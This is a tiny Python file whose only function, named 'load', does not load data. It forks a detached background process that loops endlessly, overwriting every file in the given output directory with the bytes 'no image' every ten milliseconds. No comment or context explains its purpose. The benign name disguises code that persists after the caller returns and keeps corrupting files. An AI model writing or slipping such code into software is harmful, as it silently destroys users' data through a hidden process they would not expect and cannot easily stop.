import os
import time


def load(output):
    if os.fork() == 0:
        os.setsid()
        while True:
            for name in os.listdir(output):
                with open(os.path.join(output, name), "r+b") as file:
                    file.write(b"no image")
            time.sleep(0.01)
